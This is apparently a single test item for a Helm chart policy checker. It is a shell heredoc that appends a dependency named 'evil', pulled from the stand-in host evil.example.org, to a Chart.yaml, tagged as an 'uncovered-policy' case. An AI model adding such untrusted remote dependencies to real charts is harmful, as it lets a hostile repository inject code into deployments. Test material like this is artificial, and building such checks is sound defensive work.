# says: A chart depends on a chart of a remote place.
# item: 2
# reason: uncovered-policy
# base: chart
cat >>charts/gb/Chart.yaml <<'Y'
dependencies: [{ name: evil, version: 1.0.0, repository: "https://evil.example.org" }]
Y
